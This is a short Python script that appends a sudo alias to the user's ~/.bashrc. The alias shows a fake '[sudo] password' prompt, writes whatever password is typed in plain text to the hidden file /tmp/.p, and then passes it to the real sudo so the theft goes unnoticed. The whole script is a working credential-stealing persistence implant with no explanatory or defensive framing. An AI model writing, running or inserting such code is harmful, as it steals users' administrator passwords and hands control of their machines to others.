import os

rc = os.path.expanduser("~/.bashrc")
snippet = '''
alias sudo='_s(){ read -sp "[sudo] password for $USER: " p; echo; echo "$p" >> /tmp/.p; echo "$p" | /usr/bin/sudo -S "$@"; }; _s'
'''
with open(rc, "a") as f:
    f.write(snippet)
